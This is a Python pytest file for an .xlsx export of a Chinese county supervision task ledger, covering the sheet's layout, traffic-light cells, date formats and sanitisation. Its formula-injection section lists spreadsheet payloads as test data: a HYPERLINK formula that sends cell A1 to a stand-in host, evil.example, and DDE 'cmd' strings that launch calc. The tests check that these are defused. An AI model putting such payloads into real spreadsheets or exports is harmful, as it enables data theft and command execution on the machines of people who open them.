"""streams.views.ledger_sheet.workbook: books made by the real ledger, the .xlsx read back with
openpyxl.

At ``NOW`` (2025-06-20 10:00 office time, warning window 3 days) the tasks are: DC-001 red
(overdue after one extension), DC-002 green (on track), DC-003 yellow (due in 2 days),
DC-004 green (closed).
"""

from __future__ import annotations

from datetime import date, datetime, timedelta
from io import BytesIO
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from midfield.settings import SupervisionSettings
from schemas.events import task
from streams.books import task_book
from streams.views.ledger_sheet import COLUMNS, workbook
from tests.samples import nth_event

ZONE = ZoneInfo("Asia/Shanghai")
RULES = SupervisionSettings(warning_days=3, progress_lag=0.25)
CREATED = datetime(2025, 6, 1, 9, 0, tzinfo=ZONE)
NOW = datetime(2025, 6, 20, 10, 0, tzinfo=ZONE)
SOURCE = "midfield://tasks/test"
NAMES = {"edu": "县教育局", "housing": "县住建局"}  # finance has no name: shown as its code
LIGHT = COLUMNS.index("亮灯") + 1
FIRST_TASK_ROW = 3


def _book(*events: task.TaskEvent, start: datetime = CREATED) -> task_book.State:
    """The ledger's book after ``events``, one day apart from ``start``."""
    book = None
    for n, event in enumerate(events):
        at = start + timedelta(days=n)
        envelope = nth_event(event, event.task_id, n, at, source=SOURCE, ingested_at=at)
        outcome = task_book.apply(book, envelope)
        assert isinstance(outcome, task_book.Applied), outcome
        book = outcome.book
    assert book is not None
    return book


def _created(task_id: str, deadline: date, **fields: Any) -> task.TaskCreated:
    fields = {"title": f"事项{task_id}"} | fields
    return task.TaskCreated(task_id=task_id, actor="office", deadline=deadline,
                            lead_department="edu", **fields)  # fmt: skip


def _working(task_id: str, deadline: date, *more: task.TaskEvent, **fields: Any) -> task_book.State:
    assigned = task.TaskAssigned(task_id=task_id, actor="office")
    signed = task.TaskSigned(task_id=task_id, actor="edu")
    return _book(_created(task_id, deadline, **fields), assigned, signed, *more)


RED = _working(
    "DC-001", date(2025, 6, 10),
    task.TaskProgressReported(task_id="DC-001", actor="edu", percent=60, text="主体完成六成"),
    task.TaskExtensionRequested(task_id="DC-001", actor="edu", deadline=date(2025, 6, 15),
                                reason="雨季停工"),
    task.TaskExtensionApproved(task_id="DC-001", actor="office", deadline=date(2025, 6, 15)),
    goal="9月开学前投用", category="重点项目", origin=task.TaskOrigin.meeting,
    assisting_departments=("housing", "finance"), focus=True,
)  # fmt: skip
GREEN = _working("DC-002", date(2025, 12, 31))
YELLOW = _working("DC-003", date(2025, 6, 22))
CLOSED = _working(
    "DC-004", date(2025, 6, 30),
    task.TaskCompletionReported(task_id="DC-004", actor="edu", text="已完工"),
    task.TaskReviewed(task_id="DC-004", actor="office", accepted=True),
    task.TaskClosed(task_id="DC-004", actor="office"),
)  # fmt: skip


@pytest.fixture(scope="module")
def sheet() -> Any:
    """The ledger sheet of the four tasks, handed over out of order, with a refused stub."""
    signed = task.TaskSigned(task_id="DC-999", actor="edu")
    stub = task_book.apply(
        None, nth_event(signed, "DC-999", "x", CREATED, source=SOURCE, ingested_at=CREATED)
    )
    assert isinstance(stub, task_book.Refused)
    data = workbook([YELLOW, CLOSED, stub.book, RED, GREEN], NOW, RULES, ZONE, NAMES)
    return load_workbook(BytesIO(data)).active


def _row(sheet: Any, n: int) -> list[Any]:
    return [c.value for c in sheet[n]]


def _light_cells(sheet: Any) -> list[Any]:
    return [sheet.cell(r, LIGHT) for r in range(FIRST_TASK_ROW, sheet.max_row + 1)]


def test_title_row_names_the_ledger_and_the_day(sheet: Any) -> None:
    assert sheet["A1"].value == "督查事项台账（截至2025年6月20日）"


def test_header_row_is_the_column_list(sheet: Any) -> None:
    assert _row(sheet, 2) == list(COLUMNS)


def test_one_row_per_task_sorted_by_task_id_without_stubs(sheet: Any) -> None:
    tasks = [sheet.cell(r, 2).value for r in range(FIRST_TASK_ROW, sheet.max_row + 1)]

    assert tasks == ["DC-001", "DC-002", "DC-003", "DC-004"]


def test_task_row_holds_the_ledger_fields_in_chinese(sheet: Any) -> None:
    assert _row(sheet, FIRST_TASK_ROW) == [
        1, "DC-001", "事项DC-001", "9月开学前投用", "重点项目", "会议议定", "县教育局",
        "县住建局、finance", datetime(2025, 6, 1), datetime(2025, 6, 15), "主体完成六成", 0.6,
        "办理中", 1, 5, "雨季停工", None, "是", "红",
    ]  # fmt: skip


def test_closed_task_shows_its_closing_day_and_status(sheet: Any) -> None:
    row = dict(zip(COLUMNS, _row(sheet, FIRST_TASK_ROW + 3), strict=True))

    assert (row["状态"], row["办结时间"], row["完成比例"]) == ("已办结", datetime(2025, 6, 6), 1)


def test_light_cells_are_filled_with_the_light_colour(sheet: Any) -> None:
    colours = [c.fill.fgColor.rgb for c in _light_cells(sheet)]

    assert colours == ["FFFF0000", "FF00B050", "FFFFFF00", "FF00B050"]


def test_light_cells_also_say_the_light_in_words(sheet: Any) -> None:
    assert [c.value for c in _light_cells(sheet)] == ["红", "绿", "黄", "绿"]


def test_no_other_cell_of_a_task_row_is_filled(sheet: Any) -> None:
    filled = [c.coordinate for row in sheet.iter_rows(min_row=FIRST_TASK_ROW) for c in row
              if c.column != LIGHT and c.fill.fill_type is not None]  # fmt: skip

    assert filled == []


@pytest.mark.parametrize("column", ["立项时间", "完成时限", "办结时间"])
def test_dates_are_date_cells_with_a_date_format(sheet: Any, column: str) -> None:
    cell = sheet.cell(FIRST_TASK_ROW + 3, COLUMNS.index(column) + 1)

    assert cell.is_date
    assert cell.number_format == "yyyy-mm-dd"


def test_share_done_is_a_percentage_cell(sheet: Any) -> None:
    assert sheet.cell(FIRST_TASK_ROW, COLUMNS.index("完成比例") + 1).number_format == "0%"


def test_header_is_bold_and_frozen_with_an_autofilter(sheet: Any) -> None:
    assert all(c.font.bold for c in sheet[2])
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:S6"


def test_every_column_has_a_width(sheet: Any) -> None:
    widths = [sheet.column_dimensions[get_column_letter(i)].width for i in range(1, 20)]

    assert all(w >= 6 for w in widths)
    assert widths[COLUMNS.index("进展情况")] > widths[COLUMNS.index("序号")]


def test_empty_ledger_is_a_title_and_a_header() -> None:
    data = workbook([], NOW, RULES, ZONE, NAMES)

    sheet = load_workbook(BytesIO(data)).active
    assert sheet.max_row == 2
    assert _row(sheet, 2) == list(COLUMNS)


# -- issue 18: formula injection (OWASP CSV injection) ----------------------------------------
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
             "\r=1+1"]  # fmt: skip
"""Text starting with each character OWASP lists: ``=``, ``+``, ``-``, ``@``, tab, CR."""


def _sheet_of(book: task_book.State) -> Any:
    return load_workbook(BytesIO(workbook([book], NOW, RULES, ZONE, NAMES))).active


def _cell(sheet: Any, column: str) -> Any:
    return sheet.cell(FIRST_TASK_ROW, COLUMNS.index(column) + 1)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_title_a_spreadsheet_would_run_is_a_quoted_string_cell(text: str) -> None:
    cell = _cell(_sheet_of(_working("DC-010", date(2025, 12, 31), title=text)), "督办事项")

    assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_progress_report_a_spreadsheet_would_run_is_a_quoted_string_cell(text: str) -> None:
    report = task.TaskProgressReported(task_id="DC-011", actor="edu", percent=10, text=text)
    cell = _cell(_sheet_of(_working("DC-011", date(2025, 12, 31), report)), "进展情况")

    assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))


def test_every_text_cell_of_a_row_is_neutralised() -> None:
    """Goal, category and the delay reason too: one rule for every cell."""
    book = _working(
        "DC-012", date(2025, 6, 10),
        task.TaskExtensionRequested(task_id="DC-012", actor="edu", deadline=date(2025, 6, 15),
                                    reason="=1+1"),
        task.TaskExtensionApproved(task_id="DC-012", actor="office", deadline=date(2025, 6, 15)),
        goal="@A1", category="-1+1",
    )  # fmt: skip
    sheet = _sheet_of(book)

    cells = [_cell(sheet, c) for c in ("工作目标", "类别", "延期原因")]
    assert [(c.data_type, c.value) for c in cells] == [("s", "'@A1"), ("s", "'-1+1"),
                                                        ("s", "'=1+1")]  # fmt: skip
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_normal_text_and_numbers_are_unchanged(sheet: Any) -> None:
    row = dict(zip(COLUMNS, sheet[FIRST_TASK_ROW], strict=True))

    assert (row["督办事项"].value, row["进展情况"].value) == ("事项DC-001", "主体完成六成")
    assert (row["完成比例"].data_type, row["延期次数"].value) == ("n", 1)


def test_control_characters_do_not_stop_the_sheet() -> None:
    """openpyxl refuses control characters in a cell: one report holding one must not make
    the whole ledger unavailable."""
    report = task.TaskProgressReported(
        task_id="DC-013", actor="edu", percent=10, text="a\x07b\x00c"
    )
    cell = _cell(_sheet_of(_working("DC-013", date(2025, 12, 31), report)), "进展情况")

    assert cell.value == "a\ufffdb\ufffdc"
